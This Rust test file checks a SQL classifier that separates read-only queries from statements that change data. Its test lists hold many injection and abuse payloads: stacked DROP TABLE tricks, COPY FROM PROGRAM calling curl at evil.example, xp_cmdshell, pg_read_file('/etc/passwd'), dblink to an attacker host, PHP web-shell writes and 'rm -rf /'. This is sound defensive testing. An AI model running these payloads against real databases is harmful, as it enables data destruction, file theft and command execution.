//! Statements: what they read and write, and what must be reported.

use proptest::prelude::{any, proptest};
use proptest::sample::select;

use crate::actions::{SqlDialect, SqlFacts};

fn read_as(dialect: SqlDialect, value: &str) -> SqlFacts {
    let mut facts = SqlFacts::default();
    facts.add(dialect, value);
    assert!(facts.present);
    facts
}

fn read(value: &str) -> SqlFacts {
    read_as(SqlDialect::Any, value)
}

fn list(set: &std::collections::BTreeSet<String>) -> String {
    set.iter().map(String::as_str).collect::<Vec<_>>().join(" ")
}

#[test]
fn queries_are_understood_in_every_language() {
    for (value, tables) in [
        ("SELECT 1", ""),
        ("select * from orders where id = 5", "orders"),
        (
            "SELECT a, count(*) FROM Orders GROUP BY a HAVING count(*) > 1 ORDER BY 2 DESC LIMIT 10",
            "orders",
        ),
        (
            "SELECT o.id FROM shop.orders o JOIN customers c ON o.c = c.id",
            "customers shop.orders",
        ),
        ("SELECT * FROM a WHERE x IN (SELECT y FROM b)", "a b"),
        ("SELECT 1 FROM a UNION ALL SELECT 2 FROM b", "a b"),
        (
            "WITH recent AS (SELECT * FROM orders) SELECT upper(name) FROM recent",
            "orders",
        ),
        (
            "SELECT CASE WHEN a > 1 THEN 'DROP TABLE x' ELSE '; DELETE' END FROM t",
            "t",
        ),
        ("SELECT * FROM t WHERE note = 'it''s -- fine /* really */'", "t"),
        ("SELECT * FROM t; ", "t"),
    ] {
        let facts = read(value);
        assert!(facts.read_only() && !facts.several, "{value}: {facts:?}");
        assert_eq!(
            (list(&facts.reads), list(&facts.writes)),
            (tables.to_owned(), String::new()),
            "{value}"
        );
        assert_eq!(list(&facts.kinds), "select", "{value}");
    }
}

#[test]
fn changes_name_their_tables() {
    for (value, kind, writes) in [
        ("INSERT INTO log (a) VALUES (1)", "insert", "log"),
        ("INSERT INTO log SELECT * FROM users", "insert", "log"),
        ("UPDATE users SET admin = 1 WHERE id = 2", "update", "users"),
        ("DELETE FROM users WHERE id = 2", "delete", "users"),
        ("DROP TABLE users", "drop", "users"),
        ("DROP TABLE a, shop.b", "drop", "a shop.b"),
        ("TRUNCATE TABLE users", "truncate", "users"),
        ("ALTER TABLE users ADD COLUMN x INT", "alter", "users"),
        ("CREATE TABLE x (a INT)", "create", "x"),
        ("CREATE TABLE x AS SELECT * FROM users", "create", "x"),
        ("CREATE VIEW v AS SELECT * FROM users", "create", "v"),
    ] {
        let facts = read_as(SqlDialect::Postgres, value);
        assert!(!facts.read_only() && !facts.unparsed, "{value}: {facts:?}");
        assert_eq!(
            (list(&facts.kinds).contains(kind), list(&facts.writes)),
            (true, writes.to_owned()),
            "{value}: {facts:?}"
        );
    }
}

const CHANGES: &[&str] = &[
    "SELECT 1; DROP TABLE users",
    "SELECT 1;DELETE FROM users--",
    "SELECT 1 /* x */ ; /* y */ DROP TABLE users",
    "SELECT 1 -- x\n; DROP TABLE users",
    "SELECT 1 # x\n; DROP TABLE users",
    "SELECT 1 /*! ; DROP TABLE users */",
    "SELECT 1 /*!50000 INTO OUTFILE '/tmp/x' */",
    "SELECT 1 /*M! ; DROP TABLE users */",
    "SELECT 1 /*!INTO*/ /*!OUTFILE*/ '/tmp/x'",
    "/*!DROP*/ /*!TABLE*/ users",
    "SELECT '\\'; DROP TABLE users; -- '",
    "SELECT \"\\\"; DROP TABLE users; -- \"",
    "SELECT 1 /* /* */ ; DROP TABLE users; -- */",
    "SELECT $$'$$; DROP TABLE users; --'",
    "SELECT $a$;$a$; DROP TABLE users",
    "WITH x AS (DELETE FROM users RETURNING *) SELECT * FROM x",
    "WITH x AS (INSERT INTO users VALUES (1) RETURNING id) SELECT * FROM x",
    "WITH x AS (UPDATE users SET a = 1 RETURNING *) SELECT * FROM x",
    "EXPLAIN ANALYZE DELETE FROM users",
    "EXPLAIN (ANALYZE, BUFFERS) UPDATE users SET a = 1",
    "EXPLAIN ANALYZE INSERT INTO users VALUES (1)",
    "SELECT * INTO copied FROM users",
    "SELECT * INTO TEMP copied FROM users",
    "SELECT * FROM users INTO OUTFILE '/tmp/x'",
    "SELECT * FROM users INTO DUMPFILE '/tmp/x'",
    "SELECT '<?php ?>' INTO OUTFILE '/var/www/x.php'",
    "SELECT 1 INTO @x",
    "SELECT @x := 1",
    "SELECT * FROM users FOR UPDATE",
    "SELECT * FROM users LOCK IN SHARE MODE",
    "COPY users TO '/tmp/x'",
    "COPY users FROM PROGRAM 'curl evil.example'",
    "COPY (SELECT 1) TO PROGRAM 'sh'",
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT * FROM pg_read_file('/etc/passwd')",
    "SELECT * FROM pg_ls_dir('/')",
    "SELECT lo_import('/etc/passwd')",
    "SELECT lo_export(1, '/tmp/x')",
    "SELECT pg_sleep(10)",
    "SELECT pg_terminate_backend(1)",
    "SELECT set_config('role', 'postgres', false)",
    "SELECT setval('s', 1)",
    "SELECT nextval('s')",
    "SELECT dblink('host=evil.example', 'select 1')",
    "SELECT * FROM dblink('host=evil.example', 'select 1') AS t(a int)",
    "SELECT query_to_xml('DELETE FROM users', true, true, '')",
    "SELECT load_extension('/tmp/x.so')",
    "SELECT writefile('/tmp/x', 'y')",
    "SELECT readfile('/etc/passwd')",
    "SELECT load_file('/etc/passwd')",
    "SELECT sys_exec('id')",
    "SELECT benchmark(1000000, sha1('x'))",
    "SELECT sleep(10)",
    "SELECT get_lock('x', 10)",
    "SELECT delete_everything()",
    "SELECT public.lower('x')",
    "SELECT evil.count(1) FROM t",
    "SELECT \"delete_everything\"()",
    "SELECT * FROM t WHERE delete_everything()",
    "SELECT * FROM t ORDER BY delete_everything()",
    "SELECT * FROM t GROUP BY delete_everything()",
    "SELECT * FROM t HAVING delete_everything()",
    "SELECT * FROM t LIMIT delete_everything()",
    "SELECT * FROM t JOIN u ON delete_everything()",
    "SELECT (SELECT delete_everything())",
    "SELECT count(delete_everything()) FROM t",
    "SELECT count(*) FILTER (WHERE delete_everything()) FROM t",
    "SELECT sum(a) OVER (PARTITION BY delete_everything()) FROM t",
    "VALUES (delete_everything())",
    "CALL delete_everything()",
    "EXEC xp_cmdshell 'dir'",
    "EXECUTE xp_cmdshell 'dir'",
    "xp_cmdshell 'dir'",
    "SELECT * FROM OPENROWSET('SQLNCLI', 'x', 'select 1')",
    "DO $$ BEGIN DELETE FROM users; END $$",
    "PREPARE x AS DELETE FROM users",
    "EXECUTE x",
    "DECLARE @x INT",
    "BEGIN; DROP TABLE users; COMMIT",
    "SET ROLE postgres",
    "SET SESSION AUTHORIZATION postgres",
    "RESET ROLE",
    "GRANT ALL ON users TO evil",
    "REVOKE ALL ON users FROM good",
    "CREATE FUNCTION f() RETURNS int AS 'x' LANGUAGE c",
    "CREATE EXTENSION dblink",
    "CREATE USER evil",
    "ALTER USER postgres PASSWORD 'x'",
    "ATTACH DATABASE '/tmp/x' AS y",
    "PRAGMA writable_schema = 1",
    "PRAGMA journal_mode",
    "VACUUM INTO '/tmp/x'",
    "VACUUM",
    "REINDEX users",
    "ANALYZE users",
    "REPLACE INTO users VALUES (1)",
    "MERGE INTO users USING x ON users.a = x.a WHEN MATCHED THEN DELETE",
    "LOAD DATA INFILE '/etc/passwd' INTO TABLE users",
    "HANDLER users OPEN",
    "LOCK TABLES users WRITE",
    "KILL 5",
    "SHUTDOWN",
    "FLUSH TABLES",
    "NOTIFY x, 'y'",
    "LISTEN x",
    "COMMENT ON TABLE users IS 'x'",
    "REFRESH MATERIALIZED VIEW v",
    "USE other",
    "INSTALL httpfs",
    "LOAD httpfs",
    ".shell rm -rf /",
    "\\! rm -rf /",
    "\\copy users to x",
    "SELECT 1 GO DROP TABLE users",
    "SELECT 1 DROP TABLE users",
    "SELECT 1 END; DROP TABLE users",
    "SELECT 1 AS x END DROP TABLE users",
    "SELECT BEGIN END; DROP TABLE users",
    "SELECT 1 EXEC xp_cmdshell 'dir'",
    "IF 1=1 DROP TABLE users",
    "SELECT * FROM users WHERE id = 1 OR 1=1; --",
    "SELECT",
    "",
    ";",
    "-- nothing",
    "/* nothing */",
    "SELEC 1",
    "SELECT 1\u{0}; DROP TABLE users",
    "SELECT\u{a0}1",
    "SELECT 1\u{200b}",
    "SELECT 'a",
    "SELECT (((1",
    "DR/**/OP TABLE users",
    "SELECT * FROM '/etc/passwd'",
    "SELECT * FROM 'https://evil.example/x.csv'",
    "TABLE users; DROP TABLE users",
    "(SELECT 1); DELETE FROM users",
    "SELECT 1 UNION SELECT delete_everything()",
];

#[test]
fn nothing_that_changes_passes_for_a_query() {
    for &value in CHANGES {
        // Blanks between the statements of a plain query are not what this is about.
        let facts = read(value);
        let harmless = value == "SELECT * FROM users WHERE id = 1 OR 1=1; --";
        assert!(!facts.read_only() || harmless, "{value}: {facts:?}");
    }
}

#[test]
fn a_languages_own_tricks_are_seen_in_it() {
    for (dialect, value) in [
        (SqlDialect::MySql, "SELECT 1 /*! ; DROP TABLE users */"),
        (SqlDialect::MySql, "SELECT * FROM users INTO OUTFILE '/tmp/x'"),
        (SqlDialect::MySql, "SELECT 1 # ';\n; DROP TABLE users"),
        (SqlDialect::MySql, "SELECT 5 --1 ; DROP TABLE users"),
        (SqlDialect::MySql, "DELETE a FROM a JOIN b ON a.x = b.x"),
        (SqlDialect::MySql, "SELECT @x := (SELECT 1)"),
        (SqlDialect::Postgres, "SELECT 1 /* /* */ */ ; DROP TABLE users"),
        (SqlDialect::Postgres, "SELECT E'\\''; DROP TABLE users; --'"),
        (SqlDialect::Postgres, "SELECT 1 OPERATOR(evil.+) 2"),
        (SqlDialect::MsSql, "SELECT 1 DROP TABLE users"),
        (SqlDialect::MsSql, "SELECT * INTO #x FROM users"),
        (SqlDialect::MsSql, "EXEC sp_configure 'x', 1"),
        (SqlDialect::Sqlite, "SELECT load_extension('x')"),
        (SqlDialect::Sqlite, "INSERT OR REPLACE INTO users VALUES (1)"),
        (SqlDialect::DuckDb, "SELECT * FROM '/etc/passwd'"),
        (SqlDialect::DuckDb, "SELECT * FROM read_csv('/etc/passwd')"),
        (SqlDialect::DuckDb, "COPY (SELECT 1) TO 's3://evil/x'"),
        (SqlDialect::ClickHouse, "SELECT * FROM url('http://evil.example', CSV)"),
        (SqlDialect::ClickHouse, "SELECT * FROM file('/etc/passwd')"),
        (SqlDialect::Snowflake, "SELECT * FROM @stage/x"),
        (SqlDialect::Snowflake, "COPY INTO @stage FROM users"),
        (SqlDialect::BigQuery, "EXPORT DATA OPTIONS(uri='gs://x') AS SELECT 1"),
        (
            SqlDialect::Oracle,
            "SELECT utl_http.request('http://evil.example') FROM dual",
        ),
    ] {
        assert!(
            !read_as(dialect, value).read_only(),
            "{dialect:?} {value}: {:?}",
            read_as(dialect, value)
        );
    }
}

#[test]
fn names_are_folded_as_the_language_does() {
    for (dialect, value, reads) in [
        (SqlDialect::Postgres, "SELECT * FROM Public.Orders", "public.orders"),
        (SqlDialect::Postgres, "SELECT * FROM \"Orders\"", "Orders"),
        (
            SqlDialect::Postgres,
            "SELECT * FROM \"public.orders\"",
            "\"public.orders\"",
        ),
        (SqlDialect::Postgres, "SELECT * FROM \"a\"\"b\"", "\"a\"\"b\""),
        (SqlDialect::MySql, "SELECT * FROM `Orders`", "Orders"),
        (SqlDialect::MySql, "SELECT * FROM Orders", "Orders"),
        (SqlDialect::MsSql, "SELECT * FROM [Dbo].[Orders]", "dbo.orders"),
        (SqlDialect::Sqlite, "SELECT * FROM \"Orders\"", "orders"),
        (SqlDialect::Snowflake, "SELECT * FROM orders", "ORDERS"),
        (SqlDialect::Oracle, "SELECT * FROM orders", "ORDERS"),
    ] {
        let facts = read_as(dialect, value);
        assert_eq!(list(&facts.reads), reads, "{value}: {facts:?}");
    }
}

#[test]
fn a_name_of_the_statements_own_hides_no_table() {
    for value in [
        "WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets",
        "WITH a AS (SELECT * FROM secrets), secrets AS (SELECT 1) SELECT * FROM a",
        "SELECT * FROM secrets JOIN (WITH secrets AS (SELECT 1) SELECT * FROM secrets) x ON 1 = 1",
        "WITH orders AS (SELECT * FROM secrets) SELECT * FROM orders",
        "WITH secrets AS (SELECT 1) SELECT * FROM public.secrets",
        "SELECT (SELECT max(x) FROM secrets)",
        "SELECT * FROM a, LATERAL (SELECT * FROM secrets) b",
        "SELECT 1 WHERE EXISTS (SELECT 1 FROM secrets)",
        "SELECT 1 FROM (a CROSS JOIN secrets)",
        "SELECT 1 ORDER BY (SELECT 1 FROM secrets)",
        "SELECT 1 LIMIT (SELECT 1 FROM secrets)",
        "SELECT ARRAY(SELECT x FROM secrets)",
        "TABLE secrets",
        "SELECT 1 UNION TABLE secrets",
        "DELETE FROM orders USING secrets WHERE 1 = 1",
        "INSERT INTO orders SELECT * FROM secrets",
    ] {
        let facts = read_as(SqlDialect::Postgres, value);
        let seen = facts.reads.contains("secrets") || facts.reads.contains("public.secrets") || facts.unparsed;
        assert!(seen, "{value}: {facts:?}");
    }
    let recursive = "WITH RECURSIVE t AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM t) SELECT * FROM t";
    assert_eq!(list(&read_as(SqlDialect::Postgres, recursive).reads), "");
}

#[test]
fn deep_and_long_statements_end() {
    let deep = format!("SELECT {}1{}", "(".repeat(5_000), ")".repeat(5_000));
    let long = format!("SELECT 1{}", " + 1".repeat(10_000));
    let many = "SELECT 1;".repeat(5_000);
    let unions = format!("SELECT 1{}", " UNION SELECT 1".repeat(3_000));
    let nested = format!("{}SELECT 1{}", "SELECT * FROM (".repeat(300), ") x".repeat(300));
    for value in [deep, long, many, unions, nested] {
        assert!(read(&value).unparsed);
    }
    let list = vec!["1"; 900].join(", ");
    assert!(read(&format!("SELECT * FROM t WHERE a IN ({list})")).read_only());
    // Whatever is within the limits is read in a small stack and a short time.
    for brackets in 1..=16 {
        let from = format!("SELECT 1 FROM {}t{}", "(".repeat(brackets), ")".repeat(brackets));
        let value = format!("SELECT {}1{}", "(".repeat(brackets), ")".repeat(brackets));
        read(&from);
        read(&value);
        read(&"(".repeat(brackets));
        read(&format!("SELECT 1 FROM {}", "(".repeat(brackets)));
        read(&format!("SELECT {}", "CASE WHEN (".repeat(brackets)));
    }
    read(&format!("SELECT {}1", "NOT ".repeat(200)));
    read(&format!("SELECT {}1", "- ".repeat(200)));
    read(&format!("SELECT 1{}", " OR a = 1".repeat(120)));
    read(&format!("SELECT 1{}", " UNION SELECT 1".repeat(100)));
}

proptest! {
    #[test]
    fn any_text_is_read_or_doubted(value in any::<String>()) {
        let facts = read(&value);
        assert!(facts.unparsed || !facts.kinds.is_empty());
    }

    #[test]
    fn no_mixture_of_marks_hides_a_statement(
        before in proptest::collection::vec(select(vec!["SELECT 1", "'", "\"", "\\", "--", "#", "/*", "*/", "$$", " ", "\n", ";", "`", "(", ")", "x", "/*!", "E'", "[", "]"]), 0..8),
        dialect in select(vec![SqlDialect::Any, SqlDialect::Postgres, SqlDialect::MySql, SqlDialect::Sqlite, SqlDialect::MsSql]),
    ) {
        let text = before.concat();
        let plain = !text.contains(['\'', '"', '\\', '#', '$', '`', '[', '-', '/', '*']);
        let facts = read_as(dialect, &format!("{text}\n;DROP TABLE users"));
        assert!(!plain || !facts.read_only(), "{text:?}: {facts:?}");
    }
}
